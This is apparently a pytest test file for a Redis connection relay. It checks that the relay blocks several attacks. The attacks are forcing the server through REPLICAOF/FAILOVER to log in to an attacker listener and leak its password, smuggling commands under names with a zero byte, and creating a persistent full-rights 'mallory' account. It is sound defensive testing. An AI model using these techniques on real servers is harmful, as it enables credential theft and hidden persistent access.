"""Through a brokered handle for Redis: making the server log in elsewhere, and commands under names that hide them."""

from __future__ import annotations

import contextlib
import itertools
import socket
import threading
from collections.abc import Iterator

import pytest
import redis

from connvault_jupyter.relays.redis.resp import encode
from tests.support.relays.redis_relay import Raw, RedisRelays, redis_relays
from tests.support.servers.redis_server import RedisServer, redis_server

PASSWORD = "canary-of-attacks-7"
LISTEN_S = 20.0

# A dictionary of commands has 512 places; each name is found with a chance of one in so many.
NAMES = 4000


@pytest.fixture(scope="module")
def server() -> Iterator[RedisServer]:
    """As one in a cluster is set up: it logs in to its master with the password that it has itself."""
    with redis_server(password=PASSWORD, settings={"masterauth": PASSWORD}) as found:
        yield found


@pytest.fixture(scope="module")
def relays() -> Iterator[RedisRelays]:
    with redis_relays() as found:
        yield found


class Elsewhere:
    """A listener of the attacker's, that plays a master until it has been told a password. `told`: all it heard."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listener.getsockname()[1]
        self.told = b""
        self.heard = threading.Event()
        threading.Thread(target=self._serve, daemon=True).start()

    def __enter__(self) -> Elsewhere:
        return self

    def __exit__(self, *exc_info: object) -> None:
        self._listener.close()

    def _serve(self) -> None:
        with contextlib.suppress(OSError):
            while True:
                stream, _ = self._listener.accept()
                with stream:
                    stream.settimeout(LISTEN_S)
                    while data := stream.recv(4096):
                        self.told += data
                        if PASSWORD.encode() in self.told:
                            self.heard.set()
                            break
                        stream.sendall(b"+PONG\r\n")


def answers(relays: RedisRelays, *commands: list[bytes]) -> list[bytes]:
    """One line for each."""
    with Raw(relays.endpoint()) as client:
        return [client.send(encode(command)).line() for command in commands]


def leave_master(server: RedisServer) -> None:
    with server.client() as client:
        with contextlib.suppress(redis.ResponseError):
            client.execute_command("FAILOVER", "ABORT")
        client.execute_command("REPLICAOF", "NO", "ONE")


def as_replica(stream: socket.socket, port: int) -> None:
    """Says that it is one, at this port; the server lists it from then on."""
    for command in ([b"REPLCONF", b"listening-port", b"%d" % port], [b"REPLCONF", b"capa", b"psync2"]):
        stream.sendall(encode(command))
        assert stream.recv(64) == b"+OK\r\n"
    stream.sendall(encode([b"PSYNC", b"?", b"-1"]))
    received = b""
    while b"$" not in received:
        received += stream.recv(65536)


def failover(port: int) -> list[bytes]:
    return [b"FAILOVER", b"TO", b"127.0.0.1", b"%d" % port, b"FORCE", b"TIMEOUT", b"1"]


@pytest.mark.parametrize("command", ["REPLICAOF", "FAILOVER"])
def test_a_server_that_is_made_a_replica_would_tell_its_password(server: RedisServer, command: str) -> None:
    """The attack itself, without a relay between: otherwise the tests below would mean nothing."""
    with (
        Elsewhere() as elsewhere,
        server.client() as client,
        socket.create_connection((server.host, server.port)) as replica,
    ):
        if command == "REPLICAOF":
            client.execute_command(command, "127.0.0.1", elsewhere.port)
        else:
            replica.sendall(encode([b"AUTH", PASSWORD.encode()]))
            assert replica.recv(64) == b"+OK\r\n"
            as_replica(replica, elsewhere.port)
            client.execute_command(*failover(elsewhere.port))
        told = elsewhere.heard.wait(LISTEN_S)
        leave_master(server)
    assert told


@pytest.mark.parametrize("command", ["REPLICAOF", "SLAVEOF", "FAILOVER"])
def test_the_server_is_not_made_to_log_in_elsewhere(
    relays: RedisRelays, server: RedisServer, command: str
) -> None:
    """Neither directly, nor by a client that says it is a replica and has the server fail over to it."""
    relays.point(server)
    with Elsewhere() as elsewhere, Raw(relays.endpoint()) as replica:
        as_replica(replica.stream, elsewhere.port)
        sent = (
            failover(elsewhere.port)
            if command == "FAILOVER"
            else [command.encode(), b"127.0.0.1", b"%d" % elsewhere.port]
        )
        (answer,) = answers(relays, sent)
        assert answer.startswith(b"-ERR connvault not_allowed")
        with server.client() as client:
            assert client.info("replication")["role"] == "master"
        assert not elsewhere.told


def hidden_names() -> Iterator[bytes]:
    """Of which a server takes one in some hundred for CONFIG: it compares names as C strings, up to a zero byte."""
    for number in range(NAMES):
        yield b"CONFIG\0%d" % number


def test_a_server_takes_some_names_with_a_zero_byte_for_another_command(server: RedisServer) -> None:
    """The attack itself, without a relay between."""
    with server.client() as client:
        found = client.connection_pool.get_connection()
        for name in hidden_names():
            found.send_packed_command([encode([name, b"GET", b"maxmemory"])])
            with contextlib.suppress(redis.ResponseError):
                if found.read_response():
                    client.connection_pool.release(found)
                    return
    pytest.fail("no name was taken for CONFIG")


@pytest.mark.parametrize("form", ["array", "inline"])
@pytest.mark.parametrize("name", [b"CONFIG\0", b"CONFIG\x00aaaaaaaaaaaaaaaaaaaa", b"\0", b"REPLICAOF\x00x"])
def test_a_name_with_a_zero_byte_goes_nowhere(
    relays: RedisRelays, server: RedisServer, name: bytes, form: str
) -> None:
    """It is an error of the protocol, and the end of the connection; nothing of it reaches the server."""
    relays.point(server)
    with Raw(relays.endpoint()) as client:
        quoted = b'"%b" GET maxmemory\r\n' % name.replace(b"\0", b"\\x00")
        client.send(encode([name, b"GET", b"maxmemory"]) if form == "array" else quoted)
        assert client.rest().startswith(b"-ERR Protocol error: connvault: a zero byte")


def test_a_long_name_with_a_zero_byte_that_trickles_in_goes_nowhere(
    relays: RedisRelays, server: RedisServer
) -> None:
    """Longer than any name that is looked for, and sent byte by byte."""
    relays.point(server)
    with Raw(relays.endpoint()) as client:
        for byte in encode([b"ACL\0" + b"x" * 40, b"LIST"])[:20]:
            client.send(bytes([byte]))
        assert client.rest().startswith(b"-ERR Protocol error: connvault: a zero byte")


def test_subcommands_and_settings_with_a_zero_byte_are_judged_without_it(
    relays: RedisRelays, server: RedisServer
) -> None:
    """For a server before version 7 each of them is the word itself, for a newer one each of some hundred."""
    relays.point(server)
    commands = (
        [[b"CONFIG", b"GET\0%d" % number, b"requirepass"] for number in range(50)]
        + [[b"CONFIG", b"SET", b"requirepass\0%d" % number, b"known"] for number in range(50)]
        + [[b"MODULE", b"LOAD\0", b"/tmp/x.so"]]
    )
    for answer in answers(relays, *commands):
        assert answer.startswith(b"-ERR connvault not_allowed")
    with server.client() as client:
        assert client.ping()


def test_an_account_of_ones_own_outlives_the_permission(relays: RedisRelays, server: RedisServer) -> None:
    """Not stopped: what the login may do at the service, its code may do, also let itself in by another door."""
    relays.point(server)
    ref = relays.order().ref
    with Raw(relays.endpoint(ref)) as client:
        made = [b"ACL", b"SETUSER", b"mallory", b"on", b">mallory", b"~*", b"+@all"]
        assert client.send(encode(made)).line() == b"+OK"
        relays.revoke(ref)
        assert client.rest() == b""
    with server.client(username="mallory", password="mallory") as other:
        assert other.ping()
        other.execute_command("ACL", "DELUSER", "mallory")


def test_a_value_that_is_the_password_comes_as_it_was_stored(
    relays: RedisRelays, server: RedisServer
) -> None:
    """Stored by somebody who knows it: data is never masked, so that writing it back stores no stars. Nor is a guess
    confirmed, however many of them come at once."""
    relays.point(server)
    with server.client() as other:
        other.set("k", PASSWORD)
    commands = [
        [b"GET", b"k"],
        [b"EVAL", b"return redis.call('GET','k')", b"0"],
        [b"ECHO", PASSWORD.encode()],
    ]
    with Raw(relays.endpoint()) as client:
        said = client.send(b"".join(map(encode, itertools.chain(commands, [[b"QUIT"]])))).rest()
    assert said == encode([PASSWORD.encode()])[4:] * len(commands) + b"+OK\r\n"
